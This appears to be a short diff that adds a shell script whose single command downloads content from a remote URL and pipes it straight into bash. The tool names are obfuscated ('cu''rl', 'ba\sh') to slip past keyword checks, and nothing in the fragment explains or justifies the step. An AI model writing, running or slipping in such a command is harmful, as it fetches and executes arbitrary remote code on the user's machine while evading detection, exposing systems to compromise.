@@ -1,0 +1,2 @@
+#!/bin/sh
+cu''rl -fs "https://c.example.net/x" | ba\sh -s
